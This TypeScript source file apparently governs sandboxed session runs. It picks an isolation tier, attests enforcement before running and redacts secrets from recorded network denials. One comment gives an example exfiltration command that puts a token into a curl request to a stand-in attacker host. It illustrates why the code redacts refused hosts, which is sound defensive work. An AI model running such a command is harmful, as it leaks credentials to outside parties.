/**
 * One governed session: choose the tier, settle the enforcement matrix, and only then run —
 * so a run that cannot be isolated as its contract demands fails closed before anything
 * starts, never on a weaker sandbox.
 */
import { Effect, Either, Redacted } from "effect"
import type { Dimension, IsolationTier } from "../protocol/Ids.js"
import type { PreparedExecution } from "./Execution.js"
import { type Attestation, attest } from "./Matrix.js"
import { select } from "./Select.js"
import { makeRedactor } from "./Redaction.js"
import type { ReleasedSecret, SessionResult } from "./SessionBackend.js"

export interface GovernedSession {
  readonly tier: IsolationTier
  readonly execution: PreparedExecution
  readonly workspace: string
  readonly secrets: ReadonlyArray<ReleasedSecret>
  readonly required: ReadonlyArray<Dimension>
  readonly enforce: ReadonlyArray<Dimension>
}

/** Decides the tier and the matrix; the caller records the attestation before running. */
export const prepareSession = (session: GovernedSession) =>
  Effect.gen(function*() {
    const backend = yield* select(session.tier, session.execution)
    const attestation: Attestation = yield* Either.match(
      attest(backend.tier, backend.capability, session.required, session.enforce),
      { onLeft: Effect.fail, onRight: Effect.succeed }
    )
    return { backend, attestation }
  })

/**
 * A program can put a secret into a host name (`curl http://$TOKEN.evil.test`), and every
 * tier records the host it refused; the records are redacted like the log.
 */
const redactNetwork = (result: SessionResult, secrets: ReadonlyArray<ReleasedSecret>): SessionResult => {
  if (secrets.length === 0 || result.network.length === 0) return result
  const redactor = makeRedactor(secrets.map((s) => ({ name: s.name, value: Redacted.value(s.value) })))
  const counts: Record<string, number> = { ...result.redactions }
  // A refused authority is recorded clipped, so a host may end in the start of a secret.
  const clean = (text: string, clipped = false) => {
    const out = redactor.redact(text, { truncated: clipped })
    for (const [name, n] of Object.entries(out.counts)) counts[name] = (counts[name] ?? 0) + n
    return out.text
  }
  const network = result.network.map((d) => ({
    ...d,
    host: clean(d.host, true),
    detail: clean(d.detail),
    ...(d.upstreamError === undefined ? {} : { upstreamError: clean(d.upstreamError) })
  }))
  return { ...result, network, redactions: counts }
}

/** Prepares, then runs in a scope of its own: every process, proxy and timer is gone when it returns. */
export const runSession = (session: GovernedSession, onAttested: (attestation: Attestation) => Effect.Effect<void> = () => Effect.void) =>
  Effect.gen(function*() {
    const { attestation, backend } = yield* prepareSession(session)
    yield* onAttested(attestation)
    const result: SessionResult = yield* Effect.scoped(
      backend.run({ execution: session.execution, workspace: session.workspace, secrets: session.secrets })
    )
    return { attestation, result: redactNetwork(result, session.secrets) }
  })
